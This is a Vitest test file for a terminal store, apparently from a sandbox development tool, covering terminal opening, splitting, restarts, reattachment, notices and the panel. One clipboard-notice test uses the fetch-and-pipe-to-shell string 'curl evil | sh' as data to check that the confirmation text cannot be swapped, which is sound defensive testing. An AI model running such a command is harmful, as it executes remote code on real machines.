import { beforeEach, describe, expect, it } from 'vitest';
import { anError } from '../../testing/builders.ts';
import { titleOf } from './model/terminal.ts';
import {
  addNotice,
  createTerminalStore,
  dismissNotice,
  focusedTerminal,
  lookForGoneTerminals,
  openTerminal,
  reattachTerminals,
  removeTerminal,
  restartTerminal,
  splitTerminal,
  togglePanel,
  updateTerminal,
  type TerminalStore,
} from './terminal-store.ts';

let store: TerminalStore;
beforeEach(() => {
  store = createTerminalStore();
});
const open = (sandbox: string) => openTerminal({ sandbox, shell: '/bin/ash' }, true, store);
const terminal = (id: string) => store.getState().terminals[id];

describe('openTerminal', () => {
  it('shows the new terminal and asks for the focus', () => {
    const id = open('web-api');
    expect(store.getState()).toMatchObject({ isOpen: true, focusRequests: 1 });
    expect(focusedTerminal(store.getState())).toMatchObject({ id, phase: { kind: 'opening' } });
  });

  it('leaves the focus alone where it was not asked for', () => {
    openTerminal({ sandbox: 'a', shell: '/bin/sh' }, false, store);
    expect(store.getState().focusRequests).toBe(0);
  });

  it('is named after its sandbox and its shell, or what its program says', () => {
    const id = open('web-api');
    const made = terminal(id);
    if (made === undefined) throw new Error('It was opened.');
    expect(titleOf(made)).toBe('web-api: ash');
    expect(titleOf({ ...made, programTitle: 'vim notes' })).toBe('web-api: vim notes');
  });
});

describe('splitTerminal', () => {
  it('opens another shell of the same sandbox beside the one with the keyboard', () => {
    const first = open('a');
    splitTerminal('row', undefined, store);
    const second = focusedTerminal(store.getState());
    expect(second).toMatchObject({ sandbox: 'a', command: '/bin/ash' });
    expect(second?.id).not.toBe(first);
    expect(store.getState().tabs).toHaveLength(1);
  });

  it('does nothing where there is nothing to split', () => {
    splitTerminal('row', undefined, store);
    expect(store.getState().tabs).toEqual([]);
  });
});

describe('removeTerminal', () => {
  it('gives the keyboard to the neighbour', () => {
    const [first, second] = [open('a'), open('b')];
    removeTerminal(second, store);
    expect(focusedTerminal(store.getState())?.id).toBe(first);
    expect(terminal(second)).toBeUndefined();
  });

  it('closes the panel with the last one', () => {
    removeTerminal(open('a'), store);
    expect(store.getState()).toMatchObject({ isOpen: false, tabs: [], terminals: {} });
  });
});

describe('another attempt', () => {
  it('is a new shell after a restart', () => {
    const id = open('a');
    const phase = { kind: 'failed', error: anError('agent/disconnected') } as const;
    updateTerminal(id, { sessionId: 's', phase, programTitle: 'x' }, store);
    restartTerminal(id, store);
    expect(terminal(id)).toMatchObject({
      sessionId: undefined,
      programTitle: undefined,
      attempt: 1,
      phase: { kind: 'opening' },
    });
  });

  it('is the same session after the host process came back, for those that lost it', () => {
    const [lost, ended] = [open('a'), open('b')];
    updateTerminal(lost, { sessionId: 's', phase: { kind: 'lost' } }, store);
    const phase = { kind: 'exited', status: { kind: 'exited', code: 0 } } as const;
    updateTerminal(ended, { phase }, store);
    reattachTerminals(store);
    expect(terminal(lost)).toMatchObject({
      sessionId: 's',
      attempt: 1,
      phase: { kind: 'opening' },
    });
    expect(terminal(ended)).toMatchObject({ attempt: 0, phase: { kind: 'exited' } });
  });

  it('looks again for what was gone once its sandbox is there', () => {
    const [gone, other, never] = [open('a'), open('b'), open('a')];
    for (const id of [gone, other]) {
      updateTerminal(id, { sessionId: id, phase: { kind: 'gone' } }, store);
    }
    updateTerminal(never, { phase: { kind: 'gone' } }, store);
    lookForGoneTerminals('a', store);
    expect(terminal(gone)).toMatchObject({ attempt: 1, phase: { kind: 'opening' } });
    expect(terminal(other)?.phase).toEqual({ kind: 'gone' });
    expect(terminal(never)?.phase).toEqual({ kind: 'gone' });
  });
});

describe('notices', () => {
  it('let no program change the text that the clipboard is asked about', () => {
    const id = open('a');
    addNotice(id, { kind: 'clipboard', text: 'harmless' }, store);
    addNotice(id, { kind: 'clipboard', text: 'curl evil | sh' }, store);
    expect(terminal(id)?.notices).toEqual([{ kind: 'clipboard', text: 'harmless' }]);
    dismissNotice(id, 'clipboard', store);
    addNotice(id, { kind: 'clipboard', text: 'another' }, store);
    expect(terminal(id)?.notices).toEqual([{ kind: 'clipboard', text: 'another' }]);
  });

  it('are one of each kind, until they are dismissed', () => {
    const id = open('a');
    addNotice(id, { kind: 'gap', byteCount: 1 }, store);
    addNotice(id, { kind: 'text', text: 'old' }, store);
    addNotice(id, { kind: 'text', text: 'new' }, store);
    expect(terminal(id)?.notices).toEqual([
      { kind: 'gap', byteCount: 1 },
      { kind: 'text', text: 'new' },
    ]);
    dismissNotice(id, 'gap', store);
    expect(terminal(id)?.notices).toEqual([{ kind: 'text', text: 'new' }]);
  });
});

describe('togglePanel', () => {
  it('opens, goes inside, and closes from inside alone', () => {
    togglePanel(false, store);
    expect(store.getState()).toMatchObject({ isOpen: true, focusRequests: 1 });
    togglePanel(false, store);
    expect(store.getState()).toMatchObject({ isOpen: true, focusRequests: 2 });
    togglePanel(true, store);
    expect(store.getState().isOpen).toBe(false);
  });
});
